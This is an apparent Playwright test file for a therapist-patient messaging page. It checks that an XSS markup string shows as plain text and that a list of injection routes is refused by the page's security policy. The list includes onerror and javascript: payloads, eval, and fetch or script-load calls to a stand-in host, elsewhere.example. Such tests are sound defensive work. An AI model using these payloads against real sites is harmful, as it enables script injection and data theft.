"""What a script would do that got into the page: none of its ways in leads anywhere."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from tests.e2e.conftest import Windows
from tests.e2e.first_hour import Hour

MARKUP = '<img src=x onerror="window.ran = 1"><script>window.ran = 1</script><svg onload="window.ran = 1">'
WAYS_IN = {
    "a script element": (
        "const s = document.createElement('script'); s.textContent = 'ran = 1'; document.body.append(s)"
    ),
    "markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"ran = 1\">')",
    "markup in place": "document.body.firstElementChild.innerHTML = '<svg onload=\"ran = 1\">'",
    "a handler in an attribute": (
        "const i = document.createElement('img'); i.setAttribute('onerror', 'ran = 1'); i.src = '/none';"
        "document.body.append(i)"
    ),
    "an address that is a script": (
        "const a = document.createElement('a'); a.href = 'javascript:ran = 1'; document.body.append(a); a.click()"
    ),
    "eval": "(0, eval)('ran = 1')",
    "a function made of text": "new Function('ran = 1')()",
    "a timer of text": "setTimeout('ran = 1', 0)",
    "a script from elsewhere": (
        "const s = document.createElement('script'); s.src = 'https://elsewhere.example/s.js'; document.body.append(s)"
    ),
    "a worker made of text": "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))",
    "a frame made of text": (
        "const f = document.createElement('iframe'); f.srcdoc = '<script>parent.ran = 1</script>';"
        "document.body.append(f)"
    ),
    "a style in place": "document.body.setAttribute('style', 'background: red')",
    "a word to elsewhere": "fetch('https://elsewhere.example/', { method: 'POST', body: 'a word' }).catch(() => {})",
    "a form to elsewhere": (
        "const f = document.createElement('form'); f.action = 'https://elsewhere.example/'; document.body.append(f);"
        "f.submit()"
    ),
}
TRIED = """(way) => new Promise((done) => {
  Object.defineProperty(window, 'ran', { configurable: true, set: () => done('ran') });
  addEventListener('securitypolicyviolation', (event) => done('refused: ' + event.effectiveDirective), { once: true });
  const ways = { WAYS };
  setTimeout(() => { try { ways[way](); } catch (error) { done('refused: ' + error.name); } }, 0);
})""".replace("WAYS", ", ".join(f"{way!r}: () => {{ {code} }}" for way, code in WAYS_IN.items()))
"""In a task of the page itself: what a debugger runs is not held to the page's policy. It waits for a verdict."""


@pytest.fixture(scope="module")
def page(windows: Windows) -> Page:
    hour = Hour(windows, None)
    hour.enter("therapist")
    hour.open_patients_conversation("therapist")
    hour.write("therapist", MARKUP)
    return hour["therapist"]


def test_a_script_in_a_message_is_words(page: Page) -> None:
    expect(page.get_by_role("log", name="Messages").get_by_text(MARKUP)).to_be_visible()
    assert page.evaluate("window.ran === undefined")
    assert page.locator("[role=log] img[src=x], [role=log] script, [role=log] svg[onload]").count() == 0


@pytest.mark.parametrize("way", WAYS_IN)
def test_nothing_that_is_injected_runs(page: Page, way: str) -> None:
    assert str(page.evaluate(TRIED, way)).startswith("refused: ")
